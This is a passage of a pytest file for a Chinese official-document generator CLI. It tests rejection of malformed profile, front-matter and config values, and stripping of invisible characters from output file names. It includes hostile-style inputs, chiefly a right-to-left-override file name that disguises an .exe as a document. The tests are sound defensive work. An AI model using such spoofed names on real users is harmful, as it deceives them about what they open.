    "NUL in a name": ("简称: 柳溪镇党委", '简称: "柳溪\\0镇党委"', "U+0000"),
    "bidi override": ("全称: 中共柳溪镇委员会", '全称: "中共柳溪镇\\u202e委员会"', "U+202E"),
    "zero width": ("简称: 柳溪镇党委", '简称: "柳溪\\u200b镇党委"', "U+200B"),
}


@pytest.mark.parametrize("name", sorted(PROFILE_ATTACKS))
@pytest.mark.parametrize("command", ["plan", "notice"])
def test_bad_profile_values_are_clear_messages(runner, example_profile_path, tmp_path, name, command):
    old, new, expected = PROFILE_ATTACKS[name]
    _edit(example_profile_path, old, new)
    out = tmp_path / "out"
    _failed(run_cli(runner, command, str(example_profile_path), "-o", str(out)), str(example_profile_path), expected)
    assert _nothing_in(out)


@pytest.mark.parametrize("front, expected", [
    ("valid_from: 0001-01-01", "valid_from 应在"),
    ("valid_to: 9999-12-31", "valid_to 应在"),
    ("weight: .nan", "weight 应为"),
    ("order: 99999999999999999999", "order"),
])
def test_bad_clause_front_matter_values(runner, tmp_path, front, expected):
    directory = tmp_path / "语料"
    directory.mkdir()
    (directory / "x.md").write_text(f"---\nid: 开头-值\nsection: 开头\nkinds: [plan]\nunits: [乡镇]\n{front}\n---\n正文。\n",
                                    encoding="utf-8")
    _failed(run_cli(runner, "plan", str(EXAMPLES / "unit.yaml"), "-o", str(tmp_path / "o"), "--corpus", str(directory)),
            expected)
    assert _nothing_in(tmp_path / "o")
    if front.startswith("valid_to"):  # (corpus check reads clauses the same way; once is enough)
        r = run_cli(runner, "corpus", "check", "--corpus", str(directory))
        assert r.exit_code == 1 and expected in r.output and "程序内部错误" not in r.output, r.output


@pytest.mark.parametrize("toml, expected", [
    ("[lint.options]\npercent_tolerance = nan\n", "应在 0 到 100 之间"),
    ("[lint.options]\npercent_tolerance = -1\n", "应在 0 到 100 之间"),
    ("[lint.options]\npercent_tolerance = inf\n", "应在 0 到 100 之间"),
    ("[lnt]\ndisable = [\"punct\"]\n", "未知的设置节“lnt”"),
    ("[lint]\ndisable = [[\"punct\"]]\n", "不是已知规则"),
    ("[lint]\nrule_files = [\"a\\u0000b.yaml\"]\n", "不是文件名"),
])
def test_bad_lint_config_values_are_config_errors(runner, tmp_path, toml, expected):
    config = tmp_path / "gongwen.toml"
    config.write_text(toml, encoding="utf-8")
    draft = tmp_path / "稿.txt"
    draft.write_text("本计划。\n", encoding="utf-8")
    _failed(run_cli(runner, "lint", str(draft), "--config", str(config)), str(config), expected)


# --- 14. file names from data ---------------------------------------------------------------------
def test_file_names_carry_no_bidi_or_invisible_characters(runner, tmp_path):
    from generator.infra.fileio import safe_filename

    for ch in ("\u202e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\ufeff", "\x85"):
        assert safe_filename(f"批复{ch}xcod.exe") == "批复xcod.exe"
    wb = openpyxl.load_workbook(EXAMPLES / "decisions.xlsx")
    ws = wb.active
    header = [c.value for c in ws[1]]
    ws.cell(2, header.index("姓名") + 1).value = "林\u202e芳"
    decisions = tmp_path / "决定表.xlsx"
    wb.save(decisions)
    out = tmp_path / "out"
    r = run_cli(runner, "approve", str(EXAMPLES / "unit.yaml"), str(decisions), "-o", str(out), "--format", "md")
    assert r.exit_code in (0, 2), r.output
    assert "程序内部错误" not in r.output
    for p in out.glob("*") if out.exists() else []:
        assert not re.search("[\u200b-\u200f\u2028-\u202e\ufeff\x85]", p.name), p.name


def test_force_overwrite_keeps_the_outputs_link_and_mode(runner, tmp_path):
    if not POSIX:
        pytest.skip("file modes and symlinks as tested here are POSIX")
    out = tmp_path / "out"
    assert run_cli(runner, "plan", str(EXAMPLES / "unit.yaml"), "-o", str(out), "--format", "md").exit_code == 0
    (md,) = out.glob("*.md")
    kept = tmp_path / "归档.md"
    md.rename(kept)
    md.symlink_to(kept)
    kept.chmod(0o600)
    kept.write_text("旧稿\n", encoding="utf-8")
    assert run_cli(runner, "plan", str(EXAMPLES / "unit.yaml"), "-o", str(out), "--format", "md",
                   "--force").exit_code == 0
    assert md.is_symlink() and stat.S_IMODE(kept.stat().st_mode) == 0o600
    assert kept.read_text(encoding="utf-8") != "旧稿\n"
